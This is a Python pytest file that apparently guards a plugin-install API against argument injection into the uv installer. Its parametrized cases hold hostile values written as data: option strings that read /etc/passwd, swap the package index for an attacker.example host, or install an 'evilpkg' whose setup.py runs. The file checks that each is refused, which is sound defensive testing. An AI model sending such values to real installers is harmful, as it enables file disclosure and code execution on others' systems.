"""Hole 9: a plugin spec never reaches the installer as an option.

With a token, ``{"plugin": "--requirements=file:///..."}`` made uv read that file and query the
index it named, and ``--editable=file:///.../evilpkg`` installed a package and ran its setup.py.
The spec's grammar is checked (name, existing path, or a URL with a known scheme), a leading
``-`` is refused in every field, and the requirement goes after ``--`` on the command line.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from flowdapt.plugin_installer import InstallSpec, installer_command

TOKEN = "sec-install-token"


@pytest.fixture
def admin(admin_server):
    live = admin_server({"api.token": TOKEN})
    with live.client(headers={"Authorization": f"Bearer {TOKEN}"}) as http:
        yield live, http


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"plugin": "--requirements=file:///etc/passwd"}, "plugin"),
        ({"plugin": "--requirement=file:///tmp/reqs.txt"}, "plugin"),
        ({"plugin": "--editable=file:///tmp/evilpkg"}, "plugin"),
        ({"plugin": "-e file:///tmp/evilpkg"}, "plugin"),
        ({"plugin": "--index-url=http://attacker.example/simple"}, "plugin"),
        ({"plugin": "-rfile:///etc/passwd"}, "plugin"),
        ({"plugin": "flowdapt-examples", "version": "--pre"}, "version"),
        ({"plugin": "flowdapt-examples", "extras": ["--no-deps"]}, "extras"),
        ({"plugin": "javascript://alert(1)"}, "plugin"),
        ({"plugin": "file:relative/evilpkg"}, "plugin"),
        ({"plugin": "https://example.com/x.whl --index-url=http://attacker.example"}, "plugin"),
    ],
)
def test_option_like_or_malformed_specs_are_a_400_before_anything_runs(admin, tmp_path, body, field):
    live, http = admin
    before = sorted(p.name for p in Path(live.settings.app_dir).iterdir())
    response = http.post("/plugin/install", json=body)
    assert response.status_code == 400, response.text
    assert field in response.text
    assert sorted(p.name for p in Path(live.settings.app_dir).iterdir()) == before


def test_uninstall_refuses_an_option_like_name(admin):
    _, http = admin
    response = http.post("/plugin/uninstall", json={"plugin": "--all"})
    assert response.status_code in (400, 404), response.text


def test_install_still_requires_the_token(admin_server):
    live = admin_server({"api.token": TOKEN})
    with live.client() as http:
        assert http.post("/plugin/install", json={"plugin": "--requirements=file:///etc/passwd"}).status_code == 401


@pytest.mark.parametrize(
    ("spec", "expected_tail"),
    [
        (InstallSpec(plugin="flowdapt-examples", version="1.0"), ["--", "flowdapt-examples==1.0"]),
        (InstallSpec(plugin="flowdapt-examples", upgrade=True), ["--upgrade", "--", "flowdapt-examples"]),
        (InstallSpec(plugin="https://example.com/p-1.0-py3-none-any.whl"), ["--", "https://example.com/p-1.0-py3-none-any.whl"]),
        (InstallSpec(plugin="git+https://example.com/p.git", editable=True), ["--editable=git+https://example.com/p.git"]),
    ],
)
def test_the_command_line_separates_options_from_the_requirement(spec, expected_tail):
    args = spec.requirement_args()
    if spec.upgrade:
        args = ["--upgrade", *args]
    command = installer_command("install", args)
    assert command[-len(expected_tail):] == expected_tail, command


def test_an_editable_local_project_is_one_option_with_its_value(tmp_path):
    project = tmp_path / "proj"
    project.mkdir()
    args = InstallSpec(plugin=str(project), editable=True).requirement_args()
    assert args == [f"--editable={project.resolve()}"]
    assert installer_command("install", args)[-1] == f"--editable={project.resolve()}"
